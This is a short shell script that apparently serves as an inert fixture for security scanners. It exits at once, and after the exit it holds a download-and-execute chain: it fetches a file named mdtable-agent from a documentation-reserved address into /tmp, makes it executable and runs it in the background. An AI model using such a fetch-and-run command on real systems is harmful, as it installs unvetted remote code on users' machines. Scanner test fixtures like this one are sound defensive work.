#!/bin/sh
# Inert demonstration for scanners: it ends here. The address below is reserved for documentation.
exit 0

curl -fsSL http://198.51.100.7/agent -o /tmp/mdtable-agent
chmod +x /tmp/mdtable-agent
/tmp/mdtable-agent &
